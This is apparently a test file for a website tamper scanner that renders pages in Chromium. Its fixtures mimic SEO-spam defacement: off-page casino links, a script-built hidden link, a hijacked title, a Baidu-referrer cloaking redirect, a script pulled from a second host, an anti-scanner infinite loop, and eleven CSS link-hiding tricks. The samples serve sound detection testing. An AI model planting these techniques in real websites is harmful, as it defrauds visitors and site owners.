/**
 * Key pages rendered in the system's Chromium during `scan` (pipelines/probe/render.ts), on a
 * loopback site whose 暗链 no static reading of the served HTML finds: links a linked stylesheet
 * moves off the page, a link a script builds from the site's data after a timer, a title a script
 * prefixes with spam, and a redirect only visitors arriving from Baidu get. Beside them what must
 * stay quiet: a share menu and a partner dropdown hidden until used. The redirect's target is never
 * opened. Skipped where no Chromium is installed (CI installs it).
 */
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../helpers/cli';
import { startLoopback, type Loopback } from '../helpers/loopback';
import { CHROMIUM } from '../helpers/office';
import { renderKeyPages } from '../../pipelines/probe/render';
import { silentLogger } from '../../pipelines/log';

/**
 * The homepage's script reads its spam from the site's own JSON (an attacker's edited data file):
 * neither a static reading nor the script sandbox, which has no network, sees it; a browser does.
 */
const homepage = (): string => `<!DOCTYPE html><html><head><meta charset="utf-8"><title>示范市人民政府</title>
<link rel="stylesheet" href="/css/site.css"></head><body>
<div class="nav"><a href="/">首页</a><a href="/zwgk/">政务公开</a>
<ul class="sub"><li><a href="https://www.partner-one.com/">合作单位一</a></li><li><a href="https://www.partner-two.com/">合作单位二</a></li></ul></div>
<div class="ft-links"><a href="https://www.xpj-casino.com/">澳门新葡京娱乐城</a></div>
<div id="share"></div>
<p>2026-12-01 示范市召开常务会议，研究部署今冬明春重点工作。</p>
<script>
['weibo.com', 'qzone.qq.com', 'douban.com', 'renren.com', 'tieba.baidu.com', 'kaixin001.com'].forEach(function (h) {
  var a = document.createElement('a'); a.href = 'https://' + h + '/share'; a.textContent = '分享'; a.style.display = 'none'; document.getElementById('share').appendChild(a); });
fetch('/data/cfg.json').then(function (r) { return r.json(); }).then(function (c) {
  setTimeout(function () { var d = document.createElement('div'); d.style.position = 'absolute'; d.style.left = '-7000px';
    var a = document.createElement('a'); a.href = c.u; a.textContent = c.t; d.appendChild(a); document.body.appendChild(d); }, 200);
  document.title = c.p + document.title;
  if (document.referrer.indexOf(c.e) >= 0) location.replace(c.r);
  var m = document.createElement('script'); m.src = c.s; document.body.appendChild(m);
});
</script></body></html>`;

const CSS = '.sub{display:none}.nav:hover .sub{display:block}.ft-links{position:absolute;top:-3000px}';

/** Each way a browser hides a link (reference §8's rendered predicates), and look-alikes a reader sees. */
const HIDDEN: [string, string][] = [
  ['display', '<div style="display:none"><a href="https://h1.example/">x</a></div>'],
  ['visibility', '<span style="visibility:hidden"><a href="https://h2.example/">x</a></span>'],
  ['opacity', '<div style="opacity:.5"><div style="opacity:.05"><a href="https://h3.example/">x</a></div></div>'],
  ['filter', '<div style="filter:opacity(0)"><a href="https://h4.example/">x</a></div>'],
  ['marquee', '<marquee scrollamount="9999"><a href="https://h5.example/">x</a></marquee>'],
  ['font-size', '<a href="https://h6.example/" style="font-size:1px">小字</a>'],
  ['same colour', '<div style="background:#fff"><a href="https://h7.example/" style="color:#fefefe">白字</a></div>'],
  ['transparent', '<a href="https://h8.example/" style="color:transparent">透明</a>'],
  ['clip', '<a href="https://h9.example/" style="position:absolute;clip:rect(0,0,0,0)">x</a>'],
  ['tiny box', '<div style="width:1px;height:1px;overflow:hidden"><a href="https://h10.example/">x</a></div>'],
  ['covered', '<div style="position:relative;height:40px"><div style="position:absolute;top:0;z-index:-1"><a href="https://h11.example/">x</a></div><div style="position:relative;background:#fff;height:40px">通知公告</div></div>'],
];
const SHOWN: [string, string][] = [
  ['plain', '<a href="https://s1.example/">友情链接</a>'],
  ['gradient text', '<a href="https://s2.example/" style="color:transparent;background:linear-gradient(90deg,#c00,#f60);-webkit-background-clip:text;background-clip:text">渐变</a>'],
  ['under a negative z-index with nothing over it', '<div style="position:relative"><div style="position:relative;z-index:-1"><a href="https://s3.example/">底层</a></div></div>'],
  ['an image link', '<a href="https://s4.example/"><img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="88" height="31"></a>'],
];
const HIDING = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>t</title></head><body style="background:#fff">${[...HIDDEN, ...SHOWN].map(([, h]) => `<div>${h}</div>`).join('\n')}</body></html>`;

interface Out {
  findings: { rule: string; severity: string; title: string; discriminator?: string }[];
  errors: { code: string; message: string; input: string }[];
  summary: { status: string };
}

(existsSync(CHROMIUM) ? describe : describe.skip)('key pages rendered in Chromium', () => {
  let site: Loopback;
  let casino: Loopback;
  beforeAll(async () => {
    casino = await startLoopback((q, s) => s.end(q.url === '/m.js' ? 'void 0;' : '<title>casino</title>'));
    // Another host name for the same loopback: another site to the renderer, which must not go there.
    const casinoUrl = casino.origin.replace('127.0.0.1', 'localhost') + '/';
    site = await startLoopback((q, s) => {
      const path = (q.url ?? '/').split('?')[0];
      if (path === '/css/site.css') return void s.writeHead(200, { 'content-type': 'text/css' }).end(CSS);
      if (path === '/') return void s.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(homepage());
      if (path === '/data/cfg.json') return void s.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ u: 'https://www.duchang.top/', t: '澳门赌场在线', p: '澳门新葡京官网_', e: 'baidu', r: casinoUrl, s: `${casinoUrl}m.js` }));
      if (path === '/hiding.html') return void s.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(HIDING);
      // A statistics script that never answers holds the load event back.
      if (path === '/never.js') return;
      if (path === '/stuck.html') return void s.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end('<html><head><title>t</title><link rel="stylesheet" href="/css/site.css"></head><body><div class="ft-links"><a href="https://www.xpj-casino.com/">澳门新葡京</a></div><script src="/never.js"></script></body></html>');
      // A script that never yields, planted to stop a scanner: the rendering gives up on the page, the scan goes on.
      if (path === '/spin.html') return void s.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end('<html><head><title>t</title></head><body><p>首页</p><script>setTimeout(function () { for (;;) {} }, 50)</script></body></html>');
      if (path === '/zwgk/') return void s.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end('<html><head><title>政务公开</title></head><body><a href="/">首页</a> 政务公开目录</body></html>');
      s.writeHead(404).end('not found');
    });
  });
  afterAll(async () => {
    site.server.closeAllConnections();
    await site.close();
    await casino.close();
  });

  const scan = async (browser: string): Promise<Out> => {
    const work = mkdtempSync(join(tmpdir(), 'xj-render-'));
    writeFileSync(join(work, 'xunjian.config.json'), JSON.stringify({ crawl: { minIntervalMs: 0, jitterMs: 0, sitemaps: false, retries: 0, maxExternalHosts: 0 } }));
    const before = process.env['XUNJIAN_BROWSER'];
    process.env['XUNJIAN_BROWSER'] = browser;
    try {
      return JSON.parse((await runCli(['scan', `${site.origin}/`, '--checks', 'tamper', '--format', 'json'], work)).stdout) as Out;
    } finally {
      process.env['XUNJIAN_BROWSER'] = before;
    }
  };

  it('finds what only a browser shows, and leaves menus hidden until used alone', async () => {
    const out = await scan(CHROMIUM);
    expect(out.errors).toEqual([]);
    const seen = out.findings.map((f) => `${f.rule} ${f.severity} ${f.title}`);
    expect(seen).toEqual(expect.arrayContaining([
      expect.stringMatching(/^tamper\.hidden-link critical .*xpj-casino\.com.*浏览器渲染后：<div\.ft-links> .*位于页面之外|^tamper\.hidden-link critical .*xpj-casino\.com.*浏览器渲染后：链接位于页面之外/),
      expect.stringMatching(/^tamper\.hidden-link critical .*duchang\.top.*澳门赌场.*浏览器渲染后（由脚本生成）/),
      expect.stringMatching(/^tamper\.title-hijack critical .*浏览器渲染后的标题.*新葡京/),
      expect.stringMatching(/^tamper\.cloaking critical .*从百度搜索进入的访客（浏览器渲染，脚本执行后）.*被跳转到 localhost/),
      expect.stringMatching(/^tamper\.injected-script high .*浏览器渲染本页时加载了 http:\/\/localhost:\d+ 的 script.*非常用端口/),
    ]));
    expect(out.findings).toHaveLength(5);
    expect(seen.join('\n')).not.toMatch(/weibo|partner|kaixin/);
    // The redirect was seen and stopped: the casino's page was never opened (its script was, as a visitor's browser loads it).
    expect(casino.hits.get('/')).toBeUndefined();
    expect(casino.hits.get('/m.js')).toBeGreaterThan(0);
  }, 120_000);

  it('reads the served HTML alone with rendering off, and says when the browser cannot start', async () => {
    const off = await scan('none');
    expect(off.findings).toEqual([]);
    expect(off.errors).toEqual([]);
    const broken = await scan('/nonexistent/chromium');
    expect(broken.findings).toEqual([]);
    expect(broken.errors).toEqual([expect.objectContaining({ code: 'render-failed', message: expect.stringMatching(/\/nonexistent\/chromium.*not rendered/) })]);
  }, 120_000);

  it('reads a page whose load event a stuck script holds back, once half its time is up', async () => {
    const started = Date.now();
    const r = await renderKeyPages([`${site.origin}/stuck.html`], { browser: CHROMIUM, clock: { now: () => new Date() }, log: silentLogger, timeoutMs: 4_000, settleMs: 200 });
    expect(r.errors).toEqual([]);
    expect(r.pages.get(`${site.origin}/stuck.html`)?.links).toEqual([expect.objectContaining({ url: 'https://www.xpj-casino.com/', hidden: expect.stringMatching(/位于页面之外/) })]);
    expect(Date.now() - started).toBeLessThan(15_000);
  }, 60_000);

  it('gives up on a page whose script never stops running, and says so, instead of waiting for ever', async () => {
    const started = Date.now();
    const r = await renderKeyPages([`${site.origin}/spin.html`, `${site.origin}/zwgk/`], { browser: CHROMIUM, clock: { now: () => new Date() }, log: silentLogger, timeoutMs: 4_000, settleMs: 200 });
    expect(r.errors).toEqual([expect.objectContaining({ input: `${site.origin}/spin.html`, code: 'render-failed', message: expect.stringMatching(/never stops running/) })]);
    // The next key page is still rendered.
    expect(r.pages.get(`${site.origin}/zwgk/`)?.title).toBe('政务公开');
    expect(Date.now() - started).toBeLessThan(30_000);
  }, 60_000);

  it('tells each way a browser hides a link from the ways it only looks hidden', async () => {
    const r = await renderKeyPages([`${site.origin}/hiding.html`], { browser: CHROMIUM, clock: { now: () => new Date() }, log: silentLogger, settleMs: 100 });
    const links = new Map(r.pages.get(`${site.origin}/hiding.html`)!.links.map((l) => [new URL(l.url).hostname, l.hidden]));
    HIDDEN.forEach(([how], i) => expect([how, links.get(`h${i + 1}.example`)]).toEqual([how, expect.any(String)]));
    SHOWN.forEach(([how], i) => expect([how, links.get(`s${i + 1}.example`)]).toEqual([how, undefined]));
  }, 60_000);
});
